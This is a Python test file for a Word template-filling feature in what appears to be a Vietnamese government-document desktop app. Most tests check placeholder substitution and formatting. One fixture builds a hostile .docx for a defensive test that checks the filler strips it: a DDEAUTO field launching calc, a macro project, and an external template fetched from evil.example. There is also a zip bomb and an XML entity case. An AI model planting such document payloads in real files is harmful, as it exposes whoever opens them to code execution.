"""The own Word template: places filled, over runs and in controls too, the rest as it was, nothing hostile kept."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from pathlib import Path

import docx
import pytest
from docx.document import Document
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Pt
from lxml import etree

from cchc_desktop import catalogue
from cchc_desktop.core.errors import ErrorCode, KnownError
from cchc_desktop.core.issues import IssueCode
from cchc_desktop.core.letterhead import printed_number
from cchc_desktop.publishing.layout import appendix_sheets
from cchc_desktop.publishing.template import Filled, fill_template
from cchc_desktop.publishing.template_values import PLACES, values_of
from tests.checkout import ROOT
from tests.core.bodies import with_text
from tests.publishing.test_docx_text import PROVINCE, TEXT
from tests.publishing.test_office_schema import SAMPLES, faults, sample

SAMPLE = ROOT / "resources/templates/mau-ke-hoach.docx"
PLAN = replace(with_text(catalogue.sample_plan(), TEXT), document=PROVINCE)


def raw(document: Document) -> bytes:
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def filled(data: bytes, plan=PLAN, *, appendices: bool = True) -> tuple[Document, Filled]:
    made = fill_template(data, "mau.docx", plan, appendix_sheets(plan) if appendices else ())
    file = io.BytesIO()
    made.write(file)
    return docx.Document(file), made


def codes(made: Filled) -> list[IssueCode]:
    return [issue.code for issue in made.issues]


@pytest.mark.parametrize("path", SAMPLES, ids=lambda path: path.stem)
def test_the_shipped_template_takes_every_sample(tmp_path: Path, path: Path) -> None:
    plan = sample(path)
    sheets = appendix_sheets(plan)
    made = fill_template(SAMPLE.read_bytes(), "mau.docx", plan, sheets)
    target = tmp_path / "a.docx"
    with target.open("wb") as file:
        made.write(file)
    assert faults(target) == []
    assert not made.issues
    document = docx.Document(str(target))
    assert len(document.sections) == 1 + len(sheets)
    text = etree.tostring(document.element, method="text", encoding="unicode")
    assert "{{" not in text
    for line in values_of(plan)["noi_dung"]:
        assert line.text.split("\n")[0] in text


def test_a_place_over_runs_keeps_the_look_of_its_first() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph("Số: ")
    for piece, bold in (("{", True), ("{s", False), ("o}", True), ("} (bản 1)", False)):
        paragraph.add_run(piece).bold = bold
    result, _ = filled(raw(document))
    (line,) = (p for p in result.paragraphs if p.text.startswith("Số:"))
    assert line.text == f"Số: {values_of(PLAN)['so'][0].text} (bản 1)"
    (run,) = (run for run in line.runs if values_of(PLAN)["so"][0].text in run.text)
    assert run.bold


def test_a_whole_paragraph_gives_its_look_to_each() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph(style="Quote")
    paragraph.paragraph_format.first_line_indent = Pt(20)
    paragraph.add_run("{{ Nội dung }}").font.size = Pt(15)
    result, _ = filled(raw(document))
    expected = values_of(PLAN)["noi_dung"]
    made = [p for p in result.paragraphs if p.style.name == "Quote"]
    assert [p.text for p in made] == [one.text for one in expected]
    assert len(made) > 5
    for paragraph, one in zip(made, expected, strict=True):
        assert paragraph.paragraph_format.first_line_indent == Pt(20)
        assert paragraph.runs[0].font.size == Pt(15)
        assert bool(paragraph.runs[0].bold) is one.bold


def test_header_footer_logo_and_sections_stay() -> None:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "SỞ NỘI VỤ – {{nam}}"
    document.sections[0].footer.paragraphs[0].text = "Điện thoại 0123"
    document.sections[0].left_margin = Pt(99)
    document.add_paragraph().add_run().add_picture(str(ROOT / "tests/publishing/logo.png"))
    document.add_paragraph("{{noi_dung}}")
    document.add_paragraph("{{phu_luc}}")
    before = raw(document)
    result, made = filled(before)
    first, *others = result.sections
    assert first.header.paragraphs[0].text == f"SỞ NỘI VỤ – {PLAN.year}"
    assert first.footer.paragraphs[0].text == "Điện thoại 0123"
    assert first.left_margin == Pt(99)
    assert len(others) == len(PLAN.appendices)
    assert others[0].page_width > others[0].page_height
    assert "SỞ NỘI VỤ" not in "".join(p.text for p in others[0].header.paragraphs)
    with zipfile.ZipFile(io.BytesIO(before)) as archive:
        assert made.package.parts["word/media/image1.png"] == archive.read("word/media/image1.png")
        old = docx.Document(io.BytesIO(before)).styles
    assert {style.name for style in old} <= {style.name for style in result.styles}


def test_what_follows_the_appendices_stays_behind_them() -> None:
    document = docx.Document()
    for text in ("Trước", "{{phu_luc}}", "Sau"):
        document.add_paragraph(text)
    result, _ = filled(raw(document))
    assert len(result.sections) == 2 + len(PLAN.appendices)
    assert [p.text for p in result.paragraphs if p.text in ("Trước", "Sau")] == ["Trước", "Sau"]
    assert result.sections[-1].page_width == result.sections[0].page_width < result.sections[1].page_width
    body = list(result.element.body)
    after = next(i for i, e in enumerate(body) if [t.text for t in e.iter(qn("w:t"))] == ["Sau"])
    assert max(i for i, e in enumerate(body) if e.tag == qn("w:tbl")) < after


@pytest.mark.parametrize("kind", ["block", "run"])
def test_content_controls(kind: str) -> None:
    document = docx.Document()
    inner = "<w:r><w:rPr><w:b/></w:rPr><w:t>Bấm vào đây</w:t></w:r>"
    inner = f"<w:p>{inner}</w:p>" if kind == "block" else inner
    inner = f"<w:sdtContent>{inner}</w:sdtContent>"
    control = parse_xml(f'<w:sdt {nsdecls("w")}><w:sdtPr><w:tag w:val="trich_yeu"/></w:sdtPr>{inner}</w:sdt>')
    if kind == "block":
        document.element.body.insert(0, control)
    else:
        document.add_paragraph("Về ")._p.append(control)
    result, _ = filled(raw(document))
    (line,) = (p for p in result.paragraphs if PROVINCE.title in p.text)
    assert line.runs[-1].bold


def cell(text: str, *, waiting: bool = False, shape: str = "") -> str:
    style = '<w:rPr><w:rStyle w:val="PlaceholderText"/><w:i/></w:rPr>' if waiting else "<w:rPr><w:i/></w:rPr>"
    run = f"<w:r>{style}<w:t>{text}</w:t></w:r>" if text else ""
    shape = f'<w:tcPr><w:tcW w:w="2000" w:type="dxa"/>{shape}</w:tcPr>'
    return f'<w:tc>{shape}<w:p><w:pPr><w:jc w:val="right"/></w:pPr>{run}</w:p></w:tc>'


def control(content: str, tag: str) -> str:
    return f'<w:sdt><w:sdtPr><w:tag w:val="{tag}"/></w:sdtPr><w:sdtContent>{content}</w:sdtContent></w:sdt>'


def with_table(rows: str) -> bytes:
    document = docx.Document()
    grid = '<w:tblPr><w:tblW w:w="0" w:type="auto"/></w:tblPr><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>'
    document.element.body.insert(0, parse_xml(f"<w:tbl {nsdecls('w')}>{grid}{rows}</w:tbl>"))
    return raw(document)


def cells_of(document: Document) -> list[list[str]]:
    """Read from the XML: python-docx sees no rows inside a control."""
    rows = document.tables[0]._tbl.iter(qn("w:tr"))
    return [["".join(t.text for t in tc.iter(qn("w:t"))) for tc in row.iter(qn("w:tc"))] for row in rows]


NUMBER, TITLE = printed_number(PROVINCE), PROVINCE.title
MERGED = '<w:vMerge w:val="restart"/>', "<w:vMerge/>"


@pytest.mark.parametrize(
    ("rows", "shown"),
    [
        (f"<w:tr>{cell('Về')}{control(cell('…'), 'trich_yeu')}</w:tr>", [["Về", TITLE]]),
        (control(f"<w:tr>{cell('Số')}{cell('bấm', waiting=True)}</w:tr>", "so"), [["Số", NUMBER]]),
        (control(f"<w:tr>{cell('bấm', waiting=True)}{cell('')}</w:tr>", "so"), [[NUMBER, ""]]),
        (control(f"<w:tr>{cell('')}{cell('(số)')}</w:tr>", "so"), [[NUMBER, "(số)"]]),
        (control(f"<w:tr>{cell('Số')}{cell('cũ')}</w:tr>", "so"), [["Số", NUMBER]]),
        (
            f"<w:tr>{cell('A', shape=MERGED[0])}{cell('B')}</w:tr>"
            + control(f"<w:tr>{cell('', shape=MERGED[1])}{cell('cũ')}</w:tr>", "so"),
            [["A", "B"], ["", NUMBER]],
        ),
        (
            control(f"<w:tr>{control(cell('x'), 'so')}{cell('{{trich_yeu}}')}</w:tr>", "can_cu"),
            [[NUMBER, TITLE]],
        ),
        (control(f"<w:tr>{cell('x')}{cell('{{so}}')}</w:tr>", "cua_toi"), [["x", NUMBER]]),
    ],
    ids=["cell", "row", "row-first", "row-empty", "row-full", "row-merged", "nested", "foreign"],
)
def test_content_controls_around_cells_and_rows(rows: str, shown: list[list[str]]) -> None:
    result, made = filled(with_table(rows), appendices=False)
    assert cells_of(result) == shown
    assert IssueCode.TEMPLATE_PLACE_UNKNOWN not in codes(made)
    looks = [run for run in result.element.body.iter(qn("w:r")) if run.text in (NUMBER, TITLE)]
    for run in looks:
        assert run.getparent().find(f"{qn('w:pPr')}/{qn('w:jc')}").get(qn("w:val")) == "right"
        assert (run.find(f"{qn('w:rPr')}/{qn('w:i')}") is not None) == ("(số)" not in shown[0]), (
            "an empty cell has none"
        )
        assert run.find(f"{qn('w:rPr')}/{qn('w:rStyle')}") is None, "the grey of a text that waits"


def test_a_list_in_a_controlled_cell_has_a_paragraph_for_each(tmp_path: Path) -> None:
    data = with_table(control(f"<w:tr>{cell('Căn cứ')}{cell('bấm', waiting=True)}</w:tr>", "can_cu"))
    result, made = filled(data, appendices=False)
    found = result.tables[0].cell(0, 1).paragraphs
    assert [p.text for p in found] == [one.text for one in values_of(PLAN)["can_cu"]]
    assert len(found) > 1
    target = tmp_path / "a.docx"
    with target.open("wb") as file:
        made.write(file)
    assert faults(target) == []


def test_unknown_and_missing_places_are_told() -> None:
    document = docx.Document()
    document.add_paragraph("{{so}} {{khong_ro}}")
    document.add_table(1, 1).cell(0, 0).text = "{{phu_luc}}"
    result, made = filled(raw(document))
    assert codes(made) == [
        IssueCode.TEMPLATE_PLACE_UNKNOWN, IssueCode.TEMPLATE_PLACE_MISSING, IssueCode.TEMPLATE_PLACE_WRONG
    ]  # fmt: skip
    assert made.issues[0].params["text"] == "{{khong_ro}}"
    assert "{{khong_ro}}" in result.paragraphs[0].text
    assert "noi_dung" in str(made.issues[1].params["text"])
    assert "{{so}}" not in str(made.issues[1].params["text"])


@pytest.mark.parametrize("name", [name for name in PLACES if name != "phu_luc"])
def test_every_place_is_filled(name: str) -> None:
    document = docx.Document()
    document.add_paragraph(f"{{{{{name}}}}}")
    result, _ = filled(raw(document), appendices=False)
    text = "\n".join(p.text for p in result.paragraphs)
    assert "{{" not in text
    assert all(one.text in text for one in values_of(PLAN)[name])


def hostile() -> bytes:
    """Macros, an embedded program, a linked template, a linked picture, DDE in pieces."""
    document = docx.Document()
    document.add_paragraph("{{so}}")
    paragraph = document.add_paragraph()
    for kind, text in (("begin", ""), ("", "DDEAU"), ("", "TO c:\\\\x calc"), ("separate", ""), ("end", "")):
        run = paragraph.add_run()
        made = OxmlElement("w:fldChar" if kind else "w:instrText")
        if kind:
            made.set(qn("w:fldCharType"), kind)
        made.text = text or None
        run._r.append(made)
    settings = document.settings.element
    template = OxmlElement("w:attachedTemplate")
    template.set(qn("r:id"), "rIdEvil")
    settings.insert(1, template)
    plain = raw(document)
    target = io.BytesIO()
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(io.BytesIO(plain)) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            if name == "[Content_Types].xml":
                data = data.replace(b"wordprocessingml.document.main+xml", b"MACRO")
                data = data.replace(
                    b"application/vnd.openxmlformats-officedocument.MACRO",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            if name == "word/_rels/document.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
                    b' Target="vbaProject.bin"/><Relationship Id="rIdOut" TargetMode="External" Type="'
                    + kinds.encode() + b'/image" Target="file://server/x.png"/></Relationships>',
                )  # fmt: skip
            new.writestr(name, data)
        new.writestr("word/vbaProject.bin", b"evil")
        new.writestr(
            "word/_rels/vbaProject.bin.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
        )
        new.writestr("word/vbaData.xml", b"<x/>")
        new.writestr(
            "word/_rels/settings.xml.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            b'Id="rIdEvil" TargetMode="External" Type="' + kinds.encode()
            + b'/attachedTemplate" Target="http://evil.example/x.dotm"/></Relationships>',
        )  # fmt: skip
    return target.getvalue()


def test_nothing_hostile_is_kept_and_it_is_said() -> None:
    _, made = filled(hostile())
    everything = b"\n".join(made.package.parts.values()) + "\n".join(made.package.parts).encode()
    for mark in (b"evil", b"vba", b"DDEAU", b"server", b"macroEnabled", b"attachedTemplate"):
        assert mark not in everything, mark
    assert IssueCode.TEMPLATE_DROPPED in codes(made)
    said = str(made.issues[-1].params["text"])
    assert all(word in said for word in ("vbaProject", "image", "attachedTemplate", "DDEAUTO"))


def bomb() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b" " * (300 << 20))
    return target.getvalue()


def with_entity() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(SAMPLE.read_bytes())) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            if name == "word/document.xml":
                data = b'<!DOCTYPE x [<!ENTITY a "b">]>' + data.split(b"?>", 1)[1].strip()
            new.writestr(name, data)
    return target.getvalue()


@pytest.mark.parametrize("make", [lambda: b"", lambda: b"PK\x03\x04", lambda: b"x" * 999, bomb, with_entity])
def test_what_is_no_template_is_refused(make) -> None:
    with pytest.raises(KnownError) as error:
        fill_template(make(), "mau.docx", PLAN, ())
    assert error.value.code is ErrorCode.TEMPLATE_UNREADABLE


def test_a_document_without_places_is_refused() -> None:
    document = docx.Document()
    document.add_paragraph("Không có chỗ điền, {{khac}}")
    with pytest.raises(KnownError) as error:
        fill_template(raw(document), "mau.docx", PLAN, ())
    assert error.value.code is ErrorCode.TEMPLATE_WITHOUT_PLACES


@pytest.mark.parametrize("style", [None, "Table Grid"])
def test_a_foreign_template_filled_is_sound(tmp_path: Path, style: str | None) -> None:
    document = docx.Document()
    document.styles["Normal"].font.name = "Arial"
    document.styles["Normal"].paragraph_format.space_after = Pt(30)
    cells = document.add_table(1, 2, style=style).rows[0].cells
    cells[0].text, cells[1].text = "{{noi_nhan}}", "{{chu_ky}}"
    for name in ("{{can_cu}}", "{{noi_dung}}", "{{phu_luc}}"):
        document.add_paragraph(name)
    own = tmp_path / "own.docx"
    own.write_bytes(raw(document))
    result, made = filled(own.read_bytes())
    target = tmp_path / "a.docx"
    with target.open("wb") as file:
        made.write(file)
    assert set(faults(target)) <= set(faults(own)), "nothing is wrong that was not wrong in the template"
    cell = result.tables[-1].rows[1].cells[0].paragraphs[0].style
    while cell.base_style is not None and not cell.font.name:
        cell = cell.base_style
    assert cell.font.name == "Arial"
